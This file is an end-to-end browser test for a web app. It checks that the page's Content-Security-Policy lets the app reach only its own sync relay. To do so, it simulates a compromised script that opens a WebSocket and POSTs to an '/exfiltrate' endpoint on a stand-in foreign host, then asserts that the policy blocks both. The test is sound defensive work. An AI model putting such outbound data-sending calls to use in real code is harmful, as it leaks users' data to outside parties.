// The app as served on the internet: what the page itself may do, whatever a document's
// content or a compromised script tries.
import { test, expect } from './support/fixtures.js';
import { createIncident, expectSynced } from './support/app.js';

test('the page may connect to its own relay and nowhere else', async ({ person, relay }) => {
  const a = await person('A');
  await createIncident(a.page, relay.url, { name: 'Alice', title: 'Connections' });
  // Its own relay's websocket is allowed: the incident syncs.
  await expectSynced(a.page);
  // Another origin's websocket or fetch is blocked by the page's Content-Security-Policy.
  const blocked = await a.page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(`${e.violatedDirective} ${e.blockedURI}`),
    );
    try {
      new WebSocket('ws://127.0.0.2:9/sync/elsewhere');
    } catch (e) {
      violations.push(`threw ${e.name}`);
    }
    try {
      await fetch('http://127.0.0.2:9/exfiltrate', { method: 'POST', body: 'x' });
    } catch (e) {
      violations.push(`fetch ${e.name}`);
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    return violations;
  });
  expect(blocked.some((v) => v.startsWith('connect-src ws://127.0.0.2:9'))).toBe(true);
  expect(blocked.some((v) => v.startsWith('connect-src http://127.0.0.2:9'))).toBe(true);
});
